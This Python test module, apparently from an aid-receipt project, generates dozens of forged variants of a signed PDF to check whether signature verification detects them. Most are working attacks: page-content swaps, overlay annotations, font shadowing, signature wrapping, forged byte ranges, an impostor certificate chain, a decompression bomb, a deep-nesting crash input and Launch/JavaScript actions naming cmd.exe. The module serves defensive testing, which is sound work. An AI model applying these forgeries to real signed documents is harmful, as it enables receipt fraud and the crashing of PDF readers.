"""The attacks on signed PDF files of docs/attacks.md, played on an honest receipt with the tools of the trade.

pyHanko appends revisions, qpdf and pikepdf write files anew, and what no tool will write is written by hand. Only the
attacker's own keys are used here: what a thief of the agency's key can do is tried in tests/audit, file by file.
"""

from __future__ import annotations

import io
import re
import subprocess
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from tempfile import TemporaryDirectory

import pikepdf
from cryptography.hazmat.primitives.serialization import Encoding
from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.generic import pdf_name
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.sign.signers.cms_embedder import PdfCMSEmbedder, SigIOSetup, SigObjSetup
from pyhanko.sign.signers.pdf_byterange import SignatureObject

from aid_ledger.receipts import certificates
from audit.pdf import cms, frame
from tests.audit.forge import Chain, put, raw_signature, sign
from tests.unit.receipts.example import AGENCY, FOUNDED_AT
from tests.unit.receipts.wrapping import FRAUD, wrapped

Forgery = Callable[[bytes], bytes]
Writer = IncrementalPdfFileWriter


def stream(content: bytes, **members: generic.PdfObject) -> generic.StreamObject:
    """Make a stream."""
    return generic.StreamObject({pdf_name(f"/{name}"): each for name, each in members.items()}, stream_data=content)


def dictionary(**members: generic.PdfObject) -> generic.DictionaryObject:
    """Make a dictionary."""
    return generic.DictionaryObject({pdf_name(f"/{name}"): each for name, each in members.items()})  # type: ignore[no-untyped-call] # the library has no types


def number(value: int) -> generic.NumberObject:
    """Make a number."""
    return generic.NumberObject(value)  # type: ignore[no-untyped-call] # as above


def touch_root(writer: Writer) -> None:
    """Have the catalog written once more."""
    writer.update_root()  # type: ignore[no-untyped-call] # as above


def rectangle() -> generic.ArrayObject:
    """Give a place that covers the page."""
    return generic.ArrayObject(number(each) for each in (0, 0, 400, 300))


def updated(change: Callable[[Writer], None]) -> Forgery:
    """Append a revision, as any editor does: the old signature still covers what it covered."""

    def forge(pdf: bytes) -> bytes:
        writer = Writer(io.BytesIO(pdf))
        change(writer)
        written = io.BytesIO()
        writer.write(written)  # type: ignore[no-untyped-call] # as above
        return written.getvalue()

    return forge


def page_of(writer: Writer) -> generic.DictionaryObject:
    """Find the page."""
    found: generic.DictionaryObject = writer.root["/Pages"]["/Kids"][0]
    return found


def page_contents(writer: Writer) -> None:
    """Let the page draw something else (ISA)."""
    page_of(writer)["/Contents"] = writer.add_object(stream(FRAUD))
    writer.update_container(page_of(writer))


def content_object(writer: Writer) -> None:
    """Write what the page draws once more under its own number (ISA)."""
    found = page_of(writer).raw_get("/Contents")
    writer.update_container(found.get_object())
    found.get_object().strip_filters()
    found.get_object()._data = FRAUD  # noqa: SLF001 - the library has no name for what a forger does
    found.get_object()._encoded_data = None  # noqa: SLF001


def annotation(writer: Writer, **members: generic.PdfObject) -> None:
    """Lay something on the page (EAA)."""
    annots = page_of(writer)["/Annots"]
    annots.append(writer.add_object(dictionary(Type=pdf_name("/Annot"), Rect=rectangle(), **members)))
    writer.update_container(annots)


def free_text(writer: Writer) -> None:
    """Lay a text over the amount."""
    annotation(writer, Subtype=pdf_name("/FreeText"), Contents=generic.TextStringObject("Rp900.000"))


def form_field(writer: Writer) -> None:
    """Add a field of a form."""
    name, value = generic.TextStringObject("jumlah"), generic.TextStringObject("900.000")
    annotation(writer, Subtype=pdf_name("/Widget"), FT=pdf_name("/Tx"), T=name, V=value)
    writer.root["/AcroForm"]["/Fields"].append(page_of(writer)["/Annots"].raw_get(-1))
    touch_root(writer)


def acting(kind: str, **members: generic.PdfObject) -> Callable[[Writer], None]:
    """Make a change that lays a link with an action on the page."""

    def change(writer: Writer) -> None:
        annotation(writer, Subtype=pdf_name("/Link"), A=dictionary(S=pdf_name(f"/{kind}"), **members))

    return change


def attachment(writer: Writer) -> None:
    """Attach the evidence of somebody else under the same name."""
    specification = writer.root["/AF"][0]
    specification["/EF"]["/F"] = writer.add_object(stream(b"{}", Type=pdf_name("/EmbeddedFile")))
    writer.update_container(specification)


def second_attachment(writer: Writer) -> None:
    """Attach two files of one name: which of them does a reader save?"""
    names = writer.root["/Names"]["/EmbeddedFiles"]["/Names"]
    names.extend([generic.TextStringObject("bukti.json"), names.raw_get(1)])
    writer.update_container(names)


def metadata(writer: Writer) -> None:
    """Let the metadata say something else."""
    writer.root["/Metadata"] = writer.add_object(stream(b"<x/>", Type=pdf_name("/Metadata"), Subtype=pdf_name("/XML")))
    touch_root(writer)


def faces(writer: Writer) -> None:
    """Let letters mean others; the page itself is untouched (shadow)."""
    fonts = page_of(writer)["/Resources"]["/Font"]
    for name in fonts:
        face = fonts[name]
        face["/ToUnicode"] = writer.add_object(stream(b"1 beginbfchar <0003> <0039> endbfchar"))
        writer.update_container(face)


def page_tree(writer: Writer) -> None:
    """Point the catalog to another tree of pages (hide and replace)."""
    page = dictionary(Type=pdf_name("/Page"), MediaBox=rectangle(), Contents=writer.add_object(stream(FRAUD)))
    kids = generic.ArrayObject([writer.add_object(page)])
    tree = writer.add_object(dictionary(Type=pdf_name("/Pages"), Kids=kids, Count=number(1)))
    page["/Parent"] = tree
    writer.root["/Pages"] = tree
    touch_root(writer)


def another_page(writer: Writer) -> None:
    """Add a page behind the one that was signed."""
    page = dictionary(Type=pdf_name("/Page"), MediaBox=rectangle(), Contents=writer.add_object(stream(FRAUD)))
    writer.insert_page(page)  # type: ignore[no-untyped-call] # as above


def open_action(writer: Writer) -> None:
    """Add a script that runs when the file is opened."""
    script = generic.TextStringObject("app.alert('Rp900.000')")
    writer.root["/OpenAction"] = dictionary(S=pdf_name("/JavaScript"), JS=script)
    touch_root(writer)


def security_store(writer: Writer) -> None:
    """Add a store for long-term validation, which readers allow even where nothing may change."""
    writer.root["/DSS"] = writer.add_object(dictionary(Type=pdf_name("/DSS"), Certs=generic.ArrayObject()))
    touch_root(writer)


def nothing(writer: Writer) -> None:
    """Add a revision that changes nothing: the next one will."""
    touch_root(writer)


def signed_again(pdf: bytes) -> bytes:
    """Let a stranger sign as well, past the word that nothing may change."""
    chain, writer = impostor(), Writer(io.BytesIO(pdf))
    steps = PdfCMSEmbedder().write_cms("Bupati", writer)
    next(steps)
    steps.send(SigObjSetup(SignatureObject(bytes_reserved=8_192)))
    prepared, written = steps.send(SigIOSetup("sha256"))
    certificate, digest = chain.certificate.public_bytes(Encoding.DER), prepared.document_digest
    signature = raw_signature(chain.key, cms.signed_attributes(certificate, digest))
    steps.send(cms.assemble(cms.Parts(certificate, digest, signature), chain.key.public_key()))
    signed: bytes = written.getvalue()
    return signed


@cache
def packed_blanks() -> bytes:
    """Pack a hundred megabytes of nothing."""
    return zlib.compress(bytes(100_000_000), 9)


def bomb_of_objects(writer: Writer) -> None:
    """Add an object stream of a hundred megabytes in a hundred kilobytes."""
    bomb = generic.StreamObject(
        {
            pdf_name("/Type"): pdf_name("/ObjStm"),
            pdf_name("/N"): number(1),
            pdf_name("/First"): number(4),
            pdf_name("/Filter"): pdf_name("/FlateDecode"),
        },
        encoded_data=packed_blanks(),
    )
    writer.root["/Bomb"] = writer.add_object(bomb)
    touch_root(writer)


def appended(tail: bytes) -> Forgery:
    """Write something behind the end."""
    return lambda pdf: pdf + tail


def hybrid(pdf: bytes) -> bytes:
    """Add a table in a stream beside the classic one: two readers, two documents."""
    old = re.findall(rb"startxref\n(\d+)\n", pdf)[-1]
    at = len(pdf)
    size = re.findall(rb"/Size (\d+)", pdf)[-1]
    root = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1]
    words = b"xref\n0 0\ntrailer\n<</Size %b/Root %b/Prev %b/XRefStm %b>>\nstartxref\n%d\n%%%%EOF\n"
    return pdf + words % (size, root, old, old, at)


def deep(pdf: bytes) -> bytes:
    """Add an object nested so deep that a reader that recurses falls over."""
    return pdf + b"900 0 obj\n" + b"[" * 400_000 + b"\nendobj\n%%EOF\n"


def filled(digits: bytes) -> Forgery:
    """Put something else where the signature is, as wide as it was (USF)."""

    def forge(pdf: bytes) -> bytes:
        begins, ends = frame.locate(pdf)
        return put(pdf, b"<" + digits.ljust(ends - begins - 2, b"0") + b">")

    return forge


def signature_emptied(pdf: bytes) -> bytes:
    """Leave no signature at all between the brackets (USF)."""
    return put(pdf, b"<>")


def ranged(written: bytes) -> Forgery:
    """Say something else about which bytes are signed (USF)."""

    def forge(pdf: bytes) -> bytes:
        found = re.search(rb"(/ByteRange \[[^\]]*\] *)", pdf)
        assert found is not None
        return pdf[: found.start()] + written.ljust(len(found[0])) + pdf[found.end() :]

    return forge


def flipped(place: float, mask: int = 1) -> Forgery:
    """Flip a bit this far into the file."""

    def forge(pdf: bytes) -> bytes:
        bent = bytearray(pdf)
        bent[int(len(pdf) * place)] ^= mask
        return bytes(bent)

    return forge


def certificate_flipped(pdf: bytes) -> bytes:
    """Change one digit of what the root signed the certificate with: poppler does not notice."""
    opened = frame.open_frame(pdf)
    certificate = cms.take_apart(opened.cms).certificate
    place = opened.gap[0] + len(b"<") + 2 * (opened.cms.index(certificate) + len(certificate) - 9)
    return pdf[:place] + (b"1" if pdf[place : place + 1] == b"0" else b"0") + pdf[place + 1 :]


@cache
def impostor() -> Chain:
    """Make an authority and a signer with every name of the genuine ones."""
    root = certificates.make_root(AGENCY, FOUNDED_AT)
    key, certificate = certificates.make_signing_certificate(root, AGENCY, FOUNDED_AT)
    return Chain(root.certificate, certificate, key)


def signed_by_an_impostor(pdf: bytes) -> bytes:
    """Sign the whole file anew under a root of the same name."""
    return sign(pdf, impostor())


def saved_by_qpdf(*options: str) -> Forgery:
    """Have qpdf write the file anew."""

    def forge(pdf: bytes) -> bytes:
        with TemporaryDirectory() as folder:
            old, new = Path(folder) / "old.pdf", Path(folder) / "new.pdf"
            old.write_bytes(pdf)
            subprocess.run(["qpdf", *options, str(old), str(new)], check=True)
            return new.read_bytes()

    return forge


def stripped(pdf: bytes) -> bytes:
    """Take the signature and its form away."""
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        del opened.Root.AcroForm
        del opened.Root.Perms
        del opened.pages[0].obj["/Annots"]
        written = io.BytesIO()
        opened.save(written)
    return written.getvalue()


SCRIPT = generic.TextStringObject("https://bansos.example.net/periksa")
FORGERIES: dict[str, Forgery] = {
    "a flipped bit": flipped(0.3),
    "a flipped bit of the table": flipped(0.97),
    "a digit of the certificate": certificate_flipped,
    "ISA: page contents": updated(page_contents),
    "ISA: content object": updated(content_object),
    "EAA: free text": updated(free_text),
    "EAA: form field": updated(form_field),
    "swapped attachment": updated(attachment),
    "second attachment of the name": updated(second_attachment),
    "metadata": updated(metadata),
    "shadow: faces": updated(faces),
    "hide and replace: page tree": updated(page_tree),
    "appended page": updated(another_page),
    "open action": updated(open_action),
    "launch": updated(acting("Launch", F=generic.TextStringObject("cmd.exe"))),
    "address": updated(acting("URI", URI=SCRIPT)),
    "script": updated(acting("JavaScript", JS=SCRIPT)),
    "DSS only": updated(security_store),
    "revision of nothing": updated(nothing),
    "second signature": signed_again,
    "bomb of objects": updated(bomb_of_objects),
    "garbage": appended(b"% more\n"),
    "another end": appended(b"\n%%EOF\n"),
    "objects without a table": appended(b"6 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n"),
    "objects without a table, and an end": appended(b"6 0 obj\n<</Length 0>>\nstream\n\nendstream\nendobj\n%%EOF\n"),
    "hybrid table": hybrid,
    "nested without end": deep,
    "bytes before the header": lambda pdf: b"%!PS\n" + pdf,
    "a line before the header": lambda pdf: b"\n" + pdf,
    "USF: no signature": filled(b""),
    "USF: nothing between the brackets": signature_emptied,
    "USF: half a signature": filled(b"3080"),
    "USF: no range": ranged(b""),
    "USF: null": ranged(b"/ByteRange null"),
    "USF: negative": ranged(b"/ByteRange [0 -1 2 3]"),
    "USF: all nought": ranged(b"/ByteRange [0 0 0 0]"),
    "SWA": wrapped,
    "an impostor of the same names": signed_by_an_impostor,
    "saved again": saved_by_qpdf(),
    "saved with object streams": saved_by_qpdf("--object-streams=generate"),
    "saved for the web": saved_by_qpdf("--linearize"),
    "encrypted": saved_by_qpdf("--encrypt", "", "x", "256", "--"),
    "stripped of its signature": stripped,
    "cut off": lambda pdf: pdf[: len(pdf) // 2],
    "twice": lambda pdf: pdf + pdf,
    "too large": lambda pdf: pdf[:-6] + b" " * 1_100_000 + pdf[-6:],
}
"""By the name of the row in docs/attacks.md."""
BELIEVED = [
    *(name for name, forge in FORGERIES.items() if forge.__qualname__.startswith("updated.")),
    *("second signature", "garbage", "objects without a table", "SWA"),
    *("a digit of the certificate", "an impostor of the same names"),
]
"""What poppler calls valid: every revision that an editor appends, and more."""
